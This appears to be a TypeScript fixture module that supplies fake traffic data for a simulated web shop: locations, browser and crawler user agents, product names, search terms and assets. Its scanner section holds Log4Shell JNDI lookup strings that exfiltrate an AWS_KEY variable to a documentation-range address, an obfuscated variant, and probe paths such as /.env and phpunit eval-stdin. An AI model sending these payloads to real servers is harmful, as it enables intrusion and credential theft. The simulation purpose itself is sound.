// The data of the story: places, browsers, bots, goods, search terms. A data table without logic. Addresses and the
// attacker's ASN come from the ranges reserved for documentation and benchmarks.

/** Locations of clients: country as the platform stores it (lower case), data center, networks, language, weight. */
export const PLACES: readonly {
  country: string;
  colo: string;
  asns: readonly number[];
  language: string;
  weight: number;
}[] = [
  { country: 'de', colo: 'FRA', asns: [3320, 3209, 6805, 8881], language: 'de-DE,de;q=0.9,en;q=0.7', weight: 36 },
  { country: 'us', colo: 'EWR', asns: [7922, 701, 20115, 21928], language: 'en-US,en;q=0.9', weight: 13 },
  { country: 'fr', colo: 'CDG', asns: [3215, 12322, 15557], language: 'fr-FR,fr;q=0.9,en;q=0.5', weight: 10 },
  { country: 'gb', colo: 'LHR', asns: [2856, 5089, 5607], language: 'en-GB,en;q=0.9', weight: 9 },
  { country: 'at', colo: 'VIE', asns: [8447, 1257], language: 'de-AT,de;q=0.9,en;q=0.7', weight: 7 },
  { country: 'ch', colo: 'ZRH', asns: [3303, 6730], language: 'de-CH,de;q=0.9,fr;q=0.6', weight: 6 },
  { country: 'nl', colo: 'AMS', asns: [1136, 33915], language: 'nl-NL,nl;q=0.9,en;q=0.8', weight: 5 },
  { country: 'pl', colo: 'WAW', asns: [5617, 12741], language: 'pl-PL,pl;q=0.9', weight: 4 },
  { country: 'jp', colo: 'NRT', asns: [2516, 4713], language: 'ja,en-US;q=0.6', weight: 4 },
  { country: 'es', colo: 'MAD', asns: [3352, 12479], language: 'es-ES,es;q=0.9', weight: 3 },
  { country: 'br', colo: 'GRU', asns: [28573, 18881], language: 'pt-BR,pt;q=0.9', weight: 2 },
  { country: 'in', colo: 'BOM', asns: [55836, 24560], language: 'en-IN,en;q=0.9,hi;q=0.7', weight: 1 },
];

/** Locations of the attack: one network (ASN 64500 is reserved for documentation) in three countries. */
export const ATTACK_PLACES = [
  { country: 'nl', colo: 'AMS' },
  { country: 'us', colo: 'IAD' },
  { country: 'sg', colo: 'SIN' },
] as const;
/** ASN of the attack. */
export const ATTACK_ASN = 64500;

export const BROWSERS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36',
] as const;

export const APP_AGENTS = [
  'ExampleShop/7.4.1 (Android 16; Pixel 9) okhttp/5.2.1',
  'ExampleShop/7.4.0 (Android 15; Galaxy S24 "Été Édition") okhttp/5.2.1',
  'ExampleShop/7.4.1 (iPhone17,3; iOS 26.1) CFNetwork/3860.200.71 Darwin/25.1.0',
  'お買い物アプリ/7.3.9 (iPhone16,1; iOS 26.0) CFNetwork/3857.100.1 Darwin/25.0.0',
] as const;

/** Crawlers: user agent, tags and detections of the platform, whether the platform verifies them. */
export const CRAWLERS: readonly { agent: string; asn: number; tags: readonly string[]; ids: readonly number[] }[] = [
  {
    agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    asn: 15169,
    tags: ['google'],
    ids: [],
  },
  {
    agent: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    asn: 8075,
    tags: ['bing'],
    ids: [],
  },
  {
    agent: 'Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)',
    asn: 14618,
    tags: ['pinterest', 'api'],
    ids: [],
  },
  { agent: 'PriceSpy "fast" crawler (C:\\crawl\\de\\shops.ini)', asn: 64501, tags: [], ids: [33554817, 50331651] },
  { agent: 'python-requests/2.32.5', asn: 64502, tags: [], ids: [33554817] },
  { agent: '', asn: 64503, tags: [], ids: [33563968, 50331649, 67108865] },
];

export const ATTACK_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/103.0.5060.114 Safari/537.36',
  'python-httpx/0.28.1',
  'Go-http-client/2.0',
] as const;

/** Names of the goods in the shop; the path contains them percent-encoded. */
export const GOODS = [
  'Trail Runner 3',
  'Café-Crème Maker',
  'Größe XL Hoodie',
  '27" Monitor',
  '漢字 Poster',
  'Smørrebrød Board',
  'Wool Socks',
  'Camping Lamp',
  'Piñata Kit',
  'Desk 120×60',
  'Rain Jacket',
  'Enamel Mug',
  'Yoga Mat',
  'Bike Light Set',
  'Paper Lantern',
  'Travel Adapter',
  'Chess Set',
  'Steel Bottle 0.7 l',
  'Linen Shirt',
  'Board Game Żółw',
] as const;

export const SEARCH_TERMS = [
  'socks',
  'trail runner',
  'café crème',
  'größe 42',
  '漢字',
  'cadeau 🎁',
  '27" monitor',
  'lamp\tled',
  'rain jacket men',
  'żółw',
  'a\\b testing book',
  'mug',
] as const;

/** The greeting of a returning visitor, stored in a cookie; empty for most. */
export const GREETINGS = [
  '',
  '',
  '',
  'Grüß dich, Jörg',
  'Bonjour Zoé ☕',
  'こんにちは、花子',
  'Hi "Ace" \\o/',
] as const;

/** Begins a Log4j lookup. */
const OPEN = '${';

/** Values that scanners send as `x-api-version`: Log4Shell, or harmless text. */
export const SCAN_PROBES = [
  `${OPEN}jndi:ldap://192.0.2.66:1389/${OPEN}env:AWS_KEY}}`,
  `${OPEN}${OPEN}lower:j}ndi:dns://192.0.2.66/x}`,
  '1.0',
] as const;

export const SCAN_AGENTS = [
  'Mozilla/5.0 zgrab/0.x',
  'curl/8.16.0',
  `Mozilla/5.0 (${OPEN}jndi:ldap://192.0.2.66/ua})`,
] as const;

/** Paths that a vulnerability scanner tries. */
export const SCAN_PATHS = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/wp-admin/setup-config.php',
  '/xmlrpc.php',
  '/phpmyadmin/index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/actuator/env',
  '/cgi-bin/luci',
  '/backup.sql',
  `/${OPEN}jndi:ldap://192.0.2.66:1389/a}`,
  '/admin/config.json',
] as const;

/** A file on the host for static files. */
export interface StaticFile {
  readonly path: string;
  readonly contentType: string;
  readonly bytes: number;
}

/** The files of every page. */
export const ASSETS: readonly StaticFile[] = [
  { path: '/static/css/shop.css', contentType: 'text/css', bytes: 18_000 },
  { path: '/static/js/vendor.js', contentType: 'application/javascript', bytes: 96_000 },
  { path: '/static/js/shop.js', contentType: 'application/javascript', bytes: 41_000 },
  { path: '/static/img/logo.svg', contentType: 'image/svg+xml', bytes: 2_400 },
  { path: '/static/img/hero.avif', contentType: 'image/avif', bytes: 120_000 },
  { path: '/static/fonts/inter.woff2', contentType: 'font/woff2', bytes: 68_000 },
];
